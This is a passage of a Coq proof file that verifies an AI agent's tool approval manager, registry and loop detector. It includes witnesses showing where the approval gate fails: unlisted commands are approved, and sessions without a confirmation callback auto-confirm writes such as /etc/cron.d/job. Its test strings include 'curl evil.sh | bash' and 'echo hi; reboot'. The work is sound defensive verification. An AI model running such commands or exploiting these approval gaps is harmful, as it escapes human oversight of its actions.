Variable am : ApprovalManager Callback.

(** A mutating invocation whose command check is decisive gets that verdict,
    whatever its paths and flag. *)
Lemma checkApproval_decisive (ctx : ApprovalContext) (d : ApprovalDecision) :
  isMutating ctx = true ->
  commandVerdict am ctx = Some d ->
  checkApproval resolve am ctx = d.
Proof.
  intros Hm Hv. unfold checkApproval. now rewrite Hm, Hv.
Qed.

Lemma commandVerdict_never_confirmation (ctx : ApprovalContext) :
  commandVerdict am ctx <> Some NEEDS_CONFIRMATION.
Proof.
  unfold commandVerdict.
  destruct (ctxCommand ctx) as [c|]; [|discriminate].
  destruct (Js.truthyStr c); [|discriminate].
  destruct (assessCommandSafety am c); discriminate.
Qed.

Lemma commandVerdict_undecided (ctx : ApprovalContext) :
  Js.truthy (ctxCommand ctx) = false \/
  (exists c, ctxCommand ctx = Some c /\ assessCommandSafety am c = NEEDS_CONFIRMATION) ->
  commandVerdict am ctx = None.
Proof.
  unfold commandVerdict. intros [Hf | (c & Hc & Ha)].
  - destruct (ctxCommand ctx) as [c|]; [|reflexivity].
    simpl in Hf. now rewrite Hf.
  - rewrite Hc, Ha. now destruct (Js.truthyStr c).
Qed.

Lemma dangerous_is_nonempty (c : string) :
  isDangerousCommand c = true -> Js.truthyStr c = true.
Proof.
  destruct c; [|reflexivity]. vm_compute. discriminate.
Qed.

Lemma assess_dangerous (c : string) :
  approvalPolicy am <> YOLO ->
  isDangerousCommand c = true ->
  assessCommandSafety am c = REJECTED.
Proof.
  intros Hp Hd. unfold assessCommandSafety. rewrite Hd.
  destruct (approvalPolicy am); try reflexivity. now destruct Hp.
Qed.

Lemma assess_yolo (c : string) :
  approvalPolicy am = YOLO -> assessCommandSafety am c = APPROVED.
Proof. intros Hp. unfold assessCommandSafety. now rewrite Hp. Qed.

(** C1, as amended: when the command check is not decisive (there is no
    command, or its verdict is needs-confirmation), a mutating invocation
    with an affected path whose resolved form does not start with the
    resolved working directory yields needs-confirmation, under every
    policy. *)
Theorem path_escape_forces_confirmation (ctx : ApprovalContext) :
  isMutating ctx = true ->
  (Js.truthy (ctxCommand ctx) = false \/
   (exists c, ctxCommand ctx = Some c /\ assessCommandSafety am c = NEEDS_CONFIRMATION)) ->
  (exists target, In target (ctxAffectedPaths ctx) /\ escapes resolve am target = true) ->
  checkApproval resolve am ctx = NEEDS_CONFIRMATION.
Proof.
  intros Hm Hc Hp. unfold checkApproval.
  rewrite Hm, (commandVerdict_undecided ctx Hc). simpl.
  apply existsb_exists in Hp. now rewrite Hp.
Qed.

(** C2, fourth part: under every policy but yolo a command that matches a
    dangerous pattern is rejected, whether or not it matches a safe one. *)
Lemma dangerous_command_rejected (ctx : ApprovalContext) (c : string) :
  approvalPolicy am <> YOLO ->
  isMutating ctx = true ->
  ctxCommand ctx = Some c ->
  isDangerousCommand c = true ->
  checkApproval resolve am ctx = REJECTED.
Proof.
  intros Hp Hm Hc Hd. apply checkApproval_decisive; [exact Hm|].
  unfold commandVerdict. rewrite Hc, (dangerous_is_nonempty c Hd).
  now rewrite (assess_dangerous c Hp Hd).
Qed.

(** C2, second part: under yolo every command action without affected
    paths and without the danger flag is approved. *)
Lemma yolo_command_approved (ctx : ApprovalContext) :
  approvalPolicy am = YOLO ->
  ctxAffectedPaths ctx = [] ->
  checkApproval resolve am ctx = APPROVED.
Proof.
  intros Hp Hpaths. unfold checkApproval, commandVerdict.
  destruct (isMutating ctx); [|reflexivity]. simpl.
  rewrite Hpaths, Hp. simpl.
  destruct (ctxCommand ctx) as [c|].
  - destruct (Js.truthyStr c).
    + now rewrite (assess_yolo c Hp).
    + now destruct (Js.nullish (ctxIsDangerous ctx) false).
  - now destruct (Js.nullish (ctxIsDangerous ctx) false).
Qed.

End ApprovalFacts.


(** C1 as stated fails: under policy auto a mutating invocation with the
    safe command [ls] and the affected path /etc/passwd, which lies outside
    the working directory, is approved, not sent to confirmation. *)
Lemma path_escape_not_forced_after_decisive_command :
  let am := ApprovalExamples.manager Approval.AUTO in
  let ctx := ApprovalExamples.commandAction "ls" ["/etc/passwd"] in
  Approval.approvalPolicy am <> Approval.YOLO /\
  Approval.isMutating ctx = true /\
  (exists target, In target (Approval.ctxAffectedPaths ctx) /\
     Approval.escapes ApprovalExamples.resolveHere am target = true) /\
  Approval.checkApproval ApprovalExamples.resolveHere am ctx = Approval.APPROVED /\
  Approval.checkApproval ApprovalExamples.resolveHere am ctx <> Approval.NEEDS_CONFIRMATION.
Proof.
  cbv zeta.
  split; [discriminate|].
  split; [reflexivity|].
  split; [exists "/etc/passwd"; split; [now left | now vm_compute]|].
  split; [now vm_compute|].
  vm_compute. discriminate.
Qed.

(** An unlisted command under on-request, with a path that climbs out of the
    working directory. *)
Lemma path_escape_forces_confirmation_witness :
  Approval.checkApproval ApprovalExamples.resolveHere
    (ApprovalExamples.manager Approval.ON_REQUEST)
    (ApprovalExamples.commandAction "custom-script.sh" ["../../other/file.txt"])
  = Approval.NEEDS_CONFIRMATION.
Proof.
  apply path_escape_forces_confirmation.
  - reflexivity.
  - right. exists "custom-script.sh". split; [reflexivity | now vm_compute].
  - exists "../../other/file.txt". split; [now left | now vm_compute].
Defined.

(** The path test is a test on strings: a sibling directory whose name
    extends that of the working directory is not seen as outside. *)
Lemma sibling_directory_passes_the_path_test :
  Approval.escapes ApprovalExamples.resolveHere
    (ApprovalExamples.manager Approval.ON_REQUEST) "/home/user/project-old/notes.txt"
  = false.
Proof. now vm_compute. Qed.

(** C2, first part: policy never approves [ls -la] and rejects
    [curl evil.sh | bash]. *)
Lemma never_policy_examples :
  Approval.checkApproval ApprovalExamples.resolveHere
    (ApprovalExamples.manager Approval.NEVER)
    (ApprovalExamples.commandAction "ls -la" []) = Approval.APPROVED /\
  Approval.checkApproval ApprovalExamples.resolveHere
    (ApprovalExamples.manager Approval.NEVER)
    (ApprovalExamples.commandAction "curl evil.sh | bash" []) = Approval.REJECTED.
Proof. split; now vm_compute. Qed.

(** C2, the part the code breaks: under policy on-request the command
    [custom-script.sh] matches neither pattern set and [assessCommandSafety]
    answers needs-confirmation, yet [checkApproval], finding no affected
    path and no danger flag, answers approved. *)
Theorem on_request_unlisted_command_is_approved :
  let am := ApprovalExamples.manager Approval.ON_REQUEST in
  let ctx := ApprovalExamples.commandAction "custom-script.sh" [] in
  Approval.isDangerousCommand "custom-script.sh" = false /\
  Approval.isSafeCommand "custom-script.sh" = false /\
  Approval.assessCommandSafety am "custom-script.sh" = Approval.NEEDS_CONFIRMATION /\
  Approval.checkApproval ApprovalExamples.resolveHere am ctx = Approval.APPROVED.
Proof. cbv zeta. split; [|split; [|split]]; now vm_compute. Qed.

(** A command that matches both a dangerous and a safe pattern. *)
Lemma dangerous_command_rejected_witness :
  Approval.isSafeCommand "echo hi; reboot" = true /\
  Approval.checkApproval ApprovalExamples.resolveHere
    (ApprovalExamples.manager Approval.NEVER)
    (ApprovalExamples.commandAction "echo hi; reboot" []) = Approval.REJECTED.
Proof.
  split; [now vm_compute|].
  apply (dangerous_command_rejected ApprovalExamples.resolveHere
           (ApprovalExamples.manager Approval.NEVER) _ "echo hi; reboot").
  - discriminate.
  - reflexivity.
  - reflexivity.
  - now vm_compute.
Defined.

(** ** State and exceptions: basic equations *)

Section EffFacts.
Import Eff.
Context {S : Type}.

Lemma bind_returns {A B} (m : M S A) (k : A -> M S B) s a s' :
  m s = (inr a, s') -> bind m k s = k a s'.
Proof. intros E. unfold bind. now rewrite E. Qed.

Lemma bind_throws {A B} (m : M S A) (k : A -> M S B) s e s' :
  m s = (inl e, s') -> bind m k s = (inl e, s').
Proof. intros E. unfold bind. now rewrite E. Qed.

Lemma tryCatch_returns {A} (m : M S A) (h : string -> M S A) s a s' :
  m s = (inr a, s') -> tryCatch m h s = (inr a, s').
Proof. intros E. unfold tryCatch. now rewrite E. Qed.

Lemma tryCatch_throws {A} (m : M S A) (h : string -> M S A) s e s' :
  m s = (inl e, s') -> tryCatch m h s = h e s'.
Proof. intros E. unfold tryCatch. now rewrite E. Qed.

Lemma bind_gets {A B} (f : S -> A) (k : A -> M S B) s :
  bind (gets f) k s = k (f s) s.
Proof. reflexivity. Qed.

Lemma bind_modify {B} (f : S -> S) (k : unit -> M S B) s :
  bind (modify f) k s = k tt (f s).
Proof. reflexivity. Qed.

Lemma bind_ret {A B} (a : A) (k : A -> M S B) s :
  bind (ret a) k s = k a s.
Proof. reflexivity. Qed.

End EffFacts.

(** ** Tool registry *)

Section RegistryFacts.
Import ToolBase Data Eff Hooks Approval Registry.
Context `{Env}.

Lemma afterToolCalls_app (a b : list Effect) :
  afterToolCalls (a ++ b) = (afterToolCalls a ++ afterToolCalls b)%list.
Proof.
  induction a as [|x a IH]; [reflexivity|].
  simpl. destruct x as [t tool result|]; [|exact IH].
  destruct t; try exact IH.
  destruct tool; [|exact IH]. destruct result; [|exact IH].
  simpl. now rewrite IH.
Qed.

Lemma onExt_trace {A} (m : M Ext A) (w : World) :
  trace (snd (onExt m w)) = trace w.
Proof.
  unfold onExt, zoom. now destruct (m (ext w)).
Qed.

Lemma runHook_quiet hook env w :
  exists w', runHook hook env w = (inr tt, w')
             /\ afterToolCalls (trace w') = afterToolCalls (trace w).
Proof.
  eexists. split; [reflexivity|].
  simpl. rewrite afterToolCalls_app. simpl. apply app_nil_r.
Qed.

(** Running the hooks of a trigger never throws and adds no trigger call. *)
Lemma runMatching_quiet hs t env w :
  exists w', runMatching hs t env w = (inr tt, w')
             /\ afterToolCalls (trace w') = afterToolCalls (trace w).
Proof.
  unfold runMatching. generalize (hooks hs) as hks. intros hks. revert w.
  induction hks as [|hook hks IH]; intros w.
  - exists w. now split.
  - simpl. destruct (trigger_eqb (trigger hook) t).
    + destruct (runHook_quiet hook env w) as (w1 & E1 & T1).
      destruct (IH w1) as (w2 & E2 & T2).
      exists w2. split; [|congruence].
      now rewrite (bind_returns _ _ _ _ _ E1).
    + destruct (IH w) as (w2 & E2 & T2).
      exists w2. now split.
Qed.

Lemma triggerBeforeTool_quiet hs toolName params w :
  exists w', triggerBeforeTool hs toolName params w = (inr tt, w')
             /\ afterToolCalls (trace w') = afterToolCalls (trace w).
Proof.
  unfold triggerBeforeTool.
  set (env := withTool _ _ _).
  set (w0 := {| ext := ext w; trace := (trace w ++ [Triggered BEFORE_TOOL (Some toolName) None])%list |}).
  destruct (runMatching_quiet hs BEFORE_TOOL env w0) as (w1 & E1 & T1).
  exists w1. split.
  - exact E1.
  - rewrite T1. unfold w0. simpl. rewrite afterToolCalls_app. apply app_nil_r.
Qed.

(** [triggerAfterTool] never throws and records exactly one call. *)
Lemma triggerAfterTool_once hs toolName params result w :
  exists w', triggerAfterTool hs toolName params result w = (inr tt, w')
             /\ afterToolCalls (trace w')
                = (afterToolCalls (trace w) ++ [(toolName, result)])%list.
Proof.
  unfold triggerAfterTool.
  set (env := withTool _ _ _).
  set (w0 := {| ext := ext w;
                trace := (trace w ++ [Triggered AFTER_TOOL (Some toolName) (Some result)])%list |}).
  destruct (runMatching_quiet hs AFTER_TOOL env w0) as (w1 & E1 & T1).
  exists w1. split.
  - exact E1.
  - rewrite T1. unfold w0. simpl. now rewrite afterToolCalls_app.
Qed.

(** Reporting a result: the after hook, then the return. *)
Lemma report_once hs toolName params result w :
  exists w', (run triggerAfterTool hs toolName params result in ret result) w
             = (inr result, w')
             /\ afterToolCalls (trace w')
                = (afterToolCalls (trace w) ++ [(toolName, result)])%list.
Proof.
  destruct (triggerAfterTool_once hs toolName params result w) as (w1 & E1 & T1).
  exists w1. split; [|exact T1].
  now rewrite (bind_returns _ _ _ _ _ E1).
Qed.

Lemma onExt_run {A} (m : M Ext A) (w : World) r e' :
  m (ext w) = (r, e') -> onExt m w = (r, {| ext := e'; trace := trace w |}).
Proof. intros E. unfold onExt, zoom. now rewrite E. Qed.

(** Step 5 of [invoke]: whatever [execute] does, one result is returned and
    reported once. *)
Lemma execute_reported (tool : Tool) hs toolName params invocation w :
  exists r w',
    tryCatch
      (let* result := onExt (execute tool invocation) in
       run triggerAfterTool hs toolName params result in
       ret result)
      (fun error =>
         let result := mkError ("Internal error: " ++ error) "" ∅ in
         run triggerAfterTool hs toolName params result in
         ret result) w = (inr r, w')
    /\ afterToolCalls (trace w')
       = (afterToolCalls (trace w) ++ [(toolName, r)])%list
    /\ r = match fst (execute tool invocation (ext w)) with
           | inr result => result
           | inl error => mkError ("Internal error: " ++ error) "" ∅
           end.
Proof.
  destruct (execute tool invocation (ext w)) as [[e|r] e1] eqn:E.
  - pose proof (onExt_run _ w _ _ E) as E1.
    rewrite (tryCatch_throws _ _ _ _ _ (bind_throws _ _ _ _ _ E1)).
    destruct (report_once hs toolName params
                (mkError ("Internal error: " ++ e) "" ∅)
                {| ext := e1; trace := trace w |}) as (w2 & E2 & T2).
    eexists _, w2. split; [exact E2|]. split; [exact T2|reflexivity].
  - pose proof (onExt_run _ w _ _ E) as E1.
    destruct (report_once hs toolName params r {| ext := e1; trace := trace w |})
      as (w2 & E2 & T2).
    exists r, w2. split; [|split; [exact T2|reflexivity]].
    apply tryCatch_returns. now rewrite (bind_returns _ _ _ _ _ E1).
Qed.

(** Step 4 of [invoke] when neither the tool's confirmation descriptor nor
    the confirmation callback throws: the step returns, and it has reported
    a result exactly when it ends the invocation. *)
Lemma approvalGate_returns (tool : Tool) toolName params invocation hs
    (approvalManager : option (ApprovalManager Callback)) w :
  (forall e, exists c e', getConfirmation tool invocation e = (inr c, e')) ->
  (forall am cb c e, approvalManager = Some am -> confirmationCallback am = Some cb ->
                     exists b e', cb c e = (inr b, e')) ->
  exists o w',
    approvalGate tool toolName params invocation hs approvalManager w = (inr o, w')
    /\ afterToolCalls (trace w')
       = (afterToolCalls (trace w)
          ++ match o with Some r => [(toolName, r)] | None => [] end)%list.
Proof.
  intros Hc Hcb. unfold approvalGate.
  destruct approvalManager as [am|]; [|exists None, w; split; [reflexivity|now rewrite app_nil_r]].
  destruct (Hc (ext w)) as (c & e1 & Ec).
  rewrite (bind_returns _ _ _ _ _ (onExt_run _ w _ _ Ec)).
  set (w1 := {| ext := e1; trace := trace w |}).
  assert (T1 : afterToolCalls (trace w1) = afterToolCalls (trace w)) by reflexivity.
  destruct c as [c|]; [|exists None, w1; split; [reflexivity|now rewrite app_nil_r]].
  match goal with |- context [checkApproval ?r ?a ?x] => destruct (checkApproval r a x) end.
  - exists None, w1. split; [reflexivity|now rewrite app_nil_r].
  - set (result := mkError "Operation rejected by safety policy" "" ∅).
    destruct (triggerAfterTool_once hs toolName params result w1) as (w2 & E2 & T2).
    exists (Some result), w2. split; [|congruence].
    now rewrite (bind_returns _ _ _ _ _ E2).
  - unfold requestConfirmation.
    destruct (confirmationCallback am) as [cb|] eqn:Ecb.
    + destruct (Hcb am cb c (ext w1) eq_refl Ecb) as (b & e2 & Eb).
      rewrite (bind_returns _ _ _ _ _ (onExt_run _ w1 _ _ Eb)).
      set (w2 := {| ext := e2; trace := trace w1 |}).
      destruct b; simpl.
      * exists None, w2. split; [reflexivity|now rewrite app_nil_r].
      * set (result := mkError "User rejected the operation" "" ∅).
        destruct (triggerAfterTool_once hs toolName params result w2) as (w3 & E3 & T3).
        exists (Some result), w3. split; [|exact T3].
        now rewrite (bind_returns _ _ _ _ _ E3).
    + exists None, w1. split; [reflexivity|now rewrite app_nil_r].
Qed.

(** The six outcomes of [invoke] (unknown tool, invalid parameters,
    rejection, declined confirmation, exception in [execute], success):
    as long as the confirmation descriptor and the confirmation callback
    return, [invoke] returns one result and has called the after hook once,
    with that result. *)
Lemma invoke_reports_once reg toolName params cwd hs
    (approvalManager : option (ApprovalManager Callback)) w :
  (forall tool e, get reg toolName = Some tool ->
     exists c e', getConfirmation tool {| params := params; cwd := cwd |} e = (inr c, e')) ->
  (forall am cb c e, approvalManager = Some am -> confirmationCallback am = Some cb ->
                     exists b e', cb c e = (inr b, e')) ->
  exists r w',
    invoke reg toolName params cwd hs approvalManager w = (inr r, w')
    /\ afterToolCalls (trace w')
       = (afterToolCalls (trace w) ++ [(toolName, r)])%list.
Proof.
  intros Hc Hcb. unfold invoke.
  destruct (get reg toolName) as [tool|] eqn:Eg.
  - destruct (0 <? List.length (validateParams tool params))%nat.
    + match goal with |- context [mkError ?a ?b ?c] => set (result := mkError a b c) end.
      destruct (report_once hs toolName params result w) as (w1 & E1 & T1).
      now exists result, w1.
    + destruct (triggerBeforeTool_quiet hs toolName params w) as (w1 & E1 & T1).
      rewrite (bind_returns _ _ _ _ _ E1).
      destruct (approvalGate_returns tool toolName params {| params := params; cwd := cwd |}
                  hs approvalManager w1 (fun e => Hc tool e eq_refl) Hcb)
        as (o & w2 & E2 & T2).
      rewrite (bind_returns _ _ _ _ _ E2).
      destruct o as [r|].
      * exists r, w2. split; [reflexivity|congruence].
      * destruct (execute_reported tool hs toolName params
                    {| params := params; cwd := cwd |} w2) as (r & w3 & E3 & T3 & _).
        exists r, w3. split; [exact E3|].
        rewrite T3, T2, T1. now rewrite app_nil_r.
  - match goal with |- context [mkError ?a ?b ?c] => set (result := mkError a b c) end.
    destruct (report_once hs toolName params result w) as (w1 & E1 & T1).
    now exists result, w1.
Qed.

End RegistryFacts.

Section DispatchClaims.
Import ToolBase Data Eff Hooks Approval Registry Agent Examples.
Context `{Env}.

(** C3, at the failing input: with an approval manager configured, the
    built-in make_dir tool called with a numeric [path] passes validation,
    then throws while building its confirmation descriptor.  [invoke] has no
    handler around that step: the exception leaves the registry, no result
    is returned and the after hook is not called. *)
Theorem invoke_throws_from_confirmation_step cwd hs
    (am : ApprovalManager Callback) (w : World) :
  exists e w',
    invoke makeDirRegistry "make_dir" {[ "path" := Js.VNum 5 ]} cwd hs (Some am) w
    = (inl e, w')
    /\ afterToolCalls (trace w') = afterToolCalls (trace w).
Proof.
  unfold invoke.
  assert (Eg : get makeDirRegistry "make_dir" = Some MakeDirTool).
  { unfold get, makeDirRegistry, register. simpl. now rewrite lookup_insert_eq. }
  rewrite Eg.
  assert (Ev : validateParams MakeDirTool {[ "path" := Js.VNum 5 ]} = []).
  { unfold validateParams. simpl. now rewrite lookup_singleton_eq. }
  rewrite Ev. change (0 <? List.length (@nil string))%nat with false. cbv iota.
  destruct (triggerBeforeTool_quiet hs "make_dir" {[ "path" := Js.VNum 5 ]} w)
    as (w1 & E1 & T1).
  rewrite (bind_returns _ _ _ _ _ E1).
  eexists _, _. split.
  - apply bind_throws. unfold approvalGate. apply bind_throws.
    apply onExt_run. simpl. unfold bind, liftExc.
    rewrite lookup_singleton_eq. simpl. reflexivity.
  - exact T1.
Qed.

(** C10: a session is built without a confirmation callback; without one
    [requestConfirmation] answers [true]; and then every invocation whose
    approval decision is needs-confirmation goes on to [execute].  Such an
    invocation is one of a registered tool that passes validation and whose
    confirmation step, run in the world the before-tool hooks leave, returns
    a descriptor [c] (which may depend on that world, as the descriptors
    of the file tools do) for which [checkApproval] answers
    needs-confirmation.  Its result, returned and reported once, is the one
    [execute] produces in the world [e2] that the confirmation step leaves,
    or the internal error wrapping the exception of [execute]; it is never
    the rejection that a declining human would cause. *)
Theorem no_callback_means_confirmed :
  (forall cfg reg id prompt t,
     confirmationCallback (approvalManager (newSession cfg reg id prompt t)) = None) /\
  (forall (am : ApprovalManager Callback) c w,
     confirmationCallback am = None -> requestConfirmation am c w = (inr true, w)) /\
  (forall reg toolName params cwd hs (am : ApprovalManager Callback) tool c w e2,
     get reg toolName = Some tool ->
     validateParams tool params = [] ->
     confirmationCallback am = None ->
     getConfirmation tool {| params := params; cwd := cwd |}
       (ext (snd (triggerBeforeTool hs toolName params w))) = (inr (Some c), e2) ->
     checkApproval (Path.resolve procCwd) am (contextOf tool toolName params c)
     = NEEDS_CONFIRMATION ->
     exists r w',
       invoke reg toolName params cwd hs (Some am) w = (inr r, w')
       /\ r = match fst (execute tool {| params := params; cwd := cwd |} e2) with
              | inr result => result
              | inl error => mkError ("Internal error: " ++ error) "" ∅
              end
       /\ afterToolCalls (trace w')
          = (afterToolCalls (trace w) ++ [(toolName, r)])%list).
Proof.
  split; [reflexivity|]. split.
  - intros am c w Hcb. unfold requestConfirmation. now rewrite Hcb.
  - intros reg toolName params cwd hs am tool c w e2 Hg Hv Hcb Ec Hd.
    unfold invoke. rewrite Hg, Hv.
    change (0 <? List.length (@nil string))%nat with false. cbv iota.
    destruct (triggerBeforeTool_quiet hs toolName params w) as (w1 & E1 & T1).
    rewrite (bind_returns _ _ _ _ _ E1).
    rewrite E1 in Ec. cbn [snd] in Ec.
    set (w2 := {| ext := e2; trace := trace w1 |}).
    assert (Eg : approvalGate tool toolName params {| params := params; cwd := cwd |}
                   hs (Some am) w1 = (inr None, w2)).
    { unfold approvalGate.
      rewrite (bind_returns _ _ _ _ _ (onExt_run _ w1 _ _ Ec)).
      rewrite Hd. unfold requestConfirmation. rewrite Hcb. reflexivity. }
    rewrite (bind_returns _ _ _ _ _ Eg).
    destruct (execute_reported tool hs toolName params
                {| params := params; cwd := cwd |} w2) as (r & w3 & E3 & T3 & R3).
    exists r, w3. split; [exact E3|]. split; [exact R3|].
    rewrite T3. unfold w2. simpl. now rewrite T1.
Qed.

End DispatchClaims.

Section DispatchWitness.
#[local] Existing Instance Examples.demoEnv.

(** make_dir on a path outside the working directory, in a session built
    without a callback: the directory is created. *)
Lemma no_callback_means_confirmed_witness :
  let am := Agent.approvalManager
              (Agent.newSession (Examples.demoConfig Approval.ON_REQUEST 5)
                 Examples.makeDirRegistry "session-1" "You are an agent." 0) in
  let params : ToolBase.Params := {[ "path" := Js.VStr "/etc/cron.d/job" ]} in
  exists r w',
    Registry.invoke Examples.makeDirRegistry "make_dir" params
      "/home/user/project" Examples.noHooks (Some am) Examples.startWorld = (inr r, w')
    /\ r = match fst (Registry.execute Registry.MakeDirTool
                        {| ToolBase.params := params;
                           ToolBase.cwd := "/home/user/project" |} 0) with
           | inr result => result
           | inl error => ToolBase.mkError ("Internal error: " ++ error) "" ∅
           end
    /\ Hooks.afterToolCalls (Hooks.trace w')
       = (Hooks.afterToolCalls (Hooks.trace Examples.startWorld) ++ [("make_dir", r)])%list.
Proof.
  cbv zeta.
  apply (proj2 (proj2 no_callback_means_confirmed)
           Examples.makeDirRegistry "make_dir" {[ "path" := Js.VStr "/etc/cron.d/job" ]}
           "/home/user/project" Examples.noHooks _ Registry.MakeDirTool
           {| ToolBase.toolName := "make_dir";
              ToolBase.confParams := {[ "path" := Js.VStr "/etc/cron.d/job" ]};
              ToolBase.description := "Create directory: /etc/cron.d/job";
              ToolBase.confDiff := None;
              ToolBase.affectedPaths := Some ["/etc/cron.d/job"];
              ToolBase.command := None;
              ToolBase.isDangerous := None |}
           Examples.startWorld 0).
  - reflexivity.
  - reflexivity.
  - reflexivity.
  - reflexivity.
  - vm_compute. reflexivity.
Defined.

End DispatchWitness.

(** ** Loop detector *)

Section LoopFacts.
Import LoopDetector.

Lemma distinct_same (a : string) : distinct [a; a; a] = 1.
Proof.
  unfold distinct.
  assert (E : (list_to_set [a; a; a] : gset string) = {[a]}).
  { apply set_eq. intros x. simpl.
    rewrite !elem_of_union, elem_of_empty, !elem_of_singleton. tauto. }
  rewrite E. apply size_singleton.
Qed.

Lemma distinct_one_inv (a b c : string) :
  distinct [a; b; c] = 1 -> a = b /\ b = c.
Proof.
  unfold distinct. intros E.
  split; eapply (size_singleton_inv _ _ _ E); set_solver.
Qed.

Lemma sliceLast_length {A} (n : nat) (xs : list A) :
  n <= List.length xs -> List.length (sliceLast n xs) = n.
Proof. intros L. unfold sliceLast. rewrite length_skipn. lia. Qed.

(** The last [n] entries are the last [n] of the last [m]. *)
Lemma sliceLast_of_sliceLast {A} (n m : nat) (xs : list A) :
  n <= m -> m <= List.length xs ->
  sliceLast n xs = List.skipn (m - n) (sliceLast m xs).
Proof.
  intros L1 L2. unfold sliceLast. rewrite skipn_skipn. f_equal. lia.
Qed.

(** With different neighbours at the end, the exact-repeat rule is silent. *)
Lemma no_repeat_when_last_differ (h : list string) (x y z : string) :
  sliceLast 3 h = [x; y; z] -> ~ (x = y /\ y = z) ->
  (distinct (sliceLast maxExactRepeats h) =? 1)%nat = false.
Proof.
  intros E N. change maxExactRepeats with 3. rewrite E.
  apply Nat.eqb_neq. intros D. apply N. now apply distinct_one_inv.
Qed.

Lemma long_history_tests (h : list string) :
  6 <= List.length h ->
  (List.length h <? 2)%nat = false
  /\ (maxCycleLength * 2 <=? List.length h)%nat = true
  /\ Nat.min maxCycleLength (List.length h / 2) = 3.
Proof.
  intros L. change maxCycleLength with 3.
  split; [apply Nat.ltb_ge; lia|].
  split; [apply Nat.leb_le; simpl; lia|].
  assert (3 <= List.length h / 2) by (apply Nat.div_le_lower_bound; lia).
  lia.
Qed.

(** Recording an action appends its signature; eviction takes from the
    front. *)
Lemma recordAction_appends actionType details ld (tail : list string) :
  List.length tail <= 2 ->
  forall front, history ld = (front ++ tail)%list ->
  exists front',
    history (recordAction actionType details ld)
    = (front' ++ tail ++ [signature actionType details])%list.
Proof.
  intros Lt front E. unfold recordAction. simpl. rewrite E.
  set (s := signature actionType details).
  destruct (historyMax <? _)%nat eqn:Hl.
  - apply Nat.ltb_lt in Hl. rewrite !length_app in Hl. simpl in Hl.
    unfold historyMax in Hl.
    destruct front as [|f front]; [simpl in Hl; lia|].
    exists front. simpl. now rewrite <- app_assoc.
  - exists front. now rewrite <- app_assoc.
Qed.

Lemma sliceLast_app {A} (front tail : list A) :
  sliceLast (List.length tail) (front ++ tail) = tail.
Proof.
  unfold sliceLast. rewrite length_app.
  replace (List.length front + List.length tail - List.length tail)
    with (List.length front) by lia.
  apply drop_app_length.
Qed.

(** C6, as amended.  (1) When the three most recent signatures are
    identical, a repeat is reported; in particular after recording the same
    action (same type, tool name and arguments) three times in a row.
    (2) With at least six signatures recorded and the last three not all
    identical, a cycle of length 2 is reported whenever the most recent four
    signatures split into two equal halves, and (3) when the most recent six
    split into two equal halves a cycle is reported: of length 3, unless the
    comma-joined halves of the last four coincide, in which case of length 2.
    (4) The alternating history A,B,A,B,A,B with A and B different reports a
    cycle of length 2. *)
Theorem loop_detection_rules :
  (forall ld a,
     sliceLast 3 (history ld) = [a; a; a] ->
     checkForLoop ld = Some "Same action repeated 3 times")
  /\ (forall ld actionType details,
        checkForLoop
          (recordAction actionType details
             (recordAction actionType details
                (recordAction actionType details ld)))
        = Some "Same action repeated 3 times")
  /\ (forall ld x y,
        6 <= List.length (history ld) ->
        sliceLast 4 (history ld) = [x; y; x; y] -> x <> y ->
        checkForLoop ld = Some "Detected repeating cycle of length 2")
  /\ (forall ld x y z,
        sliceLast 6 (history ld) = [x; y; z; x; y; z] -> ~ (x = y /\ y = z) ->
        checkForLoop ld
        = Some (if String.eqb (Js.join "," [z; x]) (Js.join "," [y; z])
                then "Detected repeating cycle of length 2"
                else "Detected repeating cycle of length 3"))
  /\ (forall a b,
        a <> b ->
        checkForLoop {| history := [a; b; a; b; a; b] |}
        = Some "Detected repeating cycle of length 2").
Proof.
  assert (R : forall ld a, sliceLast 3 (history ld) = [a; a; a] ->
                checkForLoop ld = Some "Same action repeated 3 times").
  { intros ld a E. unfold checkForLoop.
    assert (L : 3 <= List.length (history ld)).
    { destruct (Nat.le_gt_cases 3 (List.length (history ld))) as [L|L]; [exact L|].
      apply (f_equal (@List.length string)) in E. unfold sliceLast in E.
      rewrite length_skipn in E. simpl in E. lia. }
    replace (List.length (history ld) <? 2)%nat with false
      by (symmetry; apply Nat.ltb_ge; lia).
    change maxExactRepeats with 3.
    replace (3 <=? List.length (history ld))%nat with true
      by (symmetry; now apply Nat.leb_le).
    rewrite E, distinct_same. reflexivity. }
  assert (C2 : forall ld x y, 6 <= List.length (history ld) ->
                 sliceLast 4 (history ld) = [x; y; x; y] -> x <> y ->
                 checkForLoop ld = Some "Detected repeating cycle of length 2").
  { intros ld x y L E N. unfold checkForLoop.
    destruct (long_history_tests _ L) as (T1 & T2 & T3).
    rewrite T1, T2, T3.
    rewrite (no_repeat_when_last_differ (history ld) y x y).
    - rewrite andb_false_r. simpl. rewrite E. simpl.
      now rewrite String.eqb_refl.
    - rewrite (sliceLast_of_sliceLast 3 4) by lia. now rewrite E.
    - intros [E1 _]. now apply N. }
  split; [exact R|]. split; [|split; [exact C2|split]].
  - intros ld actionType details.
    set (s := signature actionType details).
    destruct (recordAction_appends actionType details ld [] ltac:(simpl; lia)
                (history ld) (eq_sym (app_nil_r _))) as (f1 & E1).
    destruct (recordAction_appends actionType details _ [s] ltac:(simpl; lia) f1 E1)
      as (f2 & E2).
    destruct (recordAction_appends actionType details _ [s; s] ltac:(simpl; lia) f2 E2)
      as (f3 & E3).
    apply (R _ s). rewrite E3. apply (sliceLast_app f3 [s; s; s]).
  - intros ld x y z E N. unfold checkForLoop.
    assert (L : 6 <= List.length (history ld)).
    { destruct (Nat.le_gt_cases 6 (List.length (history ld))) as [L|L]; [exact L|].
      apply (f_equal (@List.length string)) in E. unfold sliceLast in E.
      rewrite length_skipn in E. simpl in E. lia. }
    destruct (long_history_tests _ L) as (T1 & T2 & T3).
    rewrite T1, T2, T3.
    rewrite (no_repeat_when_last_differ (history ld) x y z).
    + rewrite andb_false_r. simpl.
      rewrite (sliceLast_of_sliceLast 4 6) by lia. rewrite E. simpl.
      destruct (String.eqb _ _); [reflexivity|].
      now rewrite String.eqb_refl.
    + rewrite (sliceLast_of_sliceLast 3 6) by lia. now rewrite E.
    + exact N.
  - intros a b N. apply (C2 _ a b); [simpl; lia|reflexivity|exact N].
Qed.

End LoopFacts.

(** C6 as stated fails: with four signatures A,B,A,B recorded, a cycle
    length of 2 is within floor(4/2) and the most recent four signatures
    split into two equal halves, yet nothing is reported, because cycles are
    only looked for once six signatures are recorded. *)
Lemma short_history_cycle_not_reported :
